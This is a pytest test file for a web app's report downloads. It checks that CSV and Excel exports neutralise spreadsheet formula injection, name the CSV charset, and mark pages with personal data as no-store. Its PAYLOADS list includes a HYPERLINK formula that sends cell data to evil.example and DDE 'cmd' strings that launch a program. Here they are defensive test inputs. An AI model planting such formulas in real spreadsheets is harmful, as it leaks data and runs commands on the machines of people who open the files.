"""Downloads and headers: no live spreadsheet formula, one CSV charset, no cached personal data."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from app.extensions import db
from app.models import Cohort
from app.services.allowances import payout as allowance_reports
from app.services.allowances import statements as allowances
from app.services.core.cells import safe_cell
from app.services.core.periods import year_period
from app.services.reports import exports
from app.services.reports.table import Table
from tests.reports import report_data
from tests.reports.test_allowances import march  # noqa: F401 (fixture)

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"Klick")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1"]


def _csv_rows(text: str, delimiter: str = ";") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter))


def test_the_one_sanitiser_quotes_formula_starts_and_leaves_numbers_alone():
    for payload in PAYLOADS:
        assert safe_cell(payload) == "'" + payload
    assert [safe_cell(v) for v in (-1.5, 3, None, "-1,5", "-3.00", "Jahrgang 2015", "")] == [
        -1.5, 3, None, "-1,5", "-3.00", "Jahrgang 2015", ""]


def test_report_csv_and_xlsx_escape_every_user_cell_the_same_way(app):
    table = Table("t", "Titel", ["Name", "Zahl"], rows=[[p, -1.5] for p in PAYLOADS])
    rows = _csv_rows(exports.table_csv(table, "de"))
    assert [r[0] for r in rows[1:]] == ["'" + p for p in PAYLOADS]
    assert {r[1] for r in rows[1:]} == {"-1,5"}

    book = load_workbook(io.BytesIO(exports.workbook([table], year_period(2026), "Zeitraum")))
    cells = [row[0] for row in book.active.iter_rows(min_row=5)]
    # XML turns a CR into LF on reading; the cell is still the quoted text
    assert [c.value for c in cells] == ["'" + p.replace("\r", "\n") for p in PAYLOADS]
    assert {c.data_type for c in cells} == {"s"}  # text, not a formula ("f")
    assert {row[1].value for row in book.active.iter_rows(min_row=5)} == {-1.5}


def test_a_formula_in_a_cohort_name_stays_text_in_both_downloads(
        client, clock, make_institution, make_mediator, coordinator):
    clock(report_data.NOW)
    report_data.build(make_institution, make_mediator)
    db.session.add(Cohort(year=2017, name=PAYLOADS[0]))
    db.session.commit()

    text = client.get("/reports/csv/cohorts?kind=year&year=2026").get_data(as_text=True)
    assert ["'" + PAYLOADS[0], "0", "0", "0"] in _csv_rows(text)

    book = load_workbook(io.BytesIO(client.get("/reports/export.xlsx?kind=year&year=2026").data))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row
             if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(c.value == "'" + PAYLOADS[0] for c in cells)


def test_payout_file_uses_the_same_sanitiser(march):  # noqa: F811
    march["m2"].first_name, march["m2"].last_name = "-2+3", "X"
    march["m1"].first_name, march["m1"].last_name = "@SUM(1)", "Y"
    allowances.generate_statements(2026, 3, march["coordinator"])
    text = allowance_reports.payout_csv(allowances.export_month(2026, 3, march["coordinator"]))
    names = [row[0] for row in _csv_rows(text)]
    assert "'-2+3 X" in names and "'@SUM(1) Y" in names


def test_csv_downloads_name_their_charset_once(client, coordinator):
    for url in ("/reports/csv/requests_by_month?kind=year&year=2026",
                "/reports/allowances/2026/3/payout.csv"):
        response = client.get(url)
        assert response.status_code == 200, url
        assert response.headers["Content-Type"] == "text/csv; charset=utf-8", url


def test_pages_and_downloads_with_personal_data_are_not_stored(client, make_mediator,
                                                                coordinator):
    mediator = make_mediator()
    db.session.commit()
    for url in (f"/pool/mediators/{mediator.id}", "/pool/mediators", "/calendar/",
                "/reports/csv/requests_by_month?kind=year&year=2026",
                "/reports/export.xlsx?kind=year&year=2026",
                "/reports/allowances/2026/3/payout.csv", "/coordination/outbox"):
        response = client.get(url)
        assert response.status_code == 200, url
        assert response.headers.get("Cache-Control") == "no-store", url
    # a public static asset may be cached as usual
    with client.get("/static/css/reports.css") as css:
        assert "no-store" not in css.headers.get("Cache-Control", "")
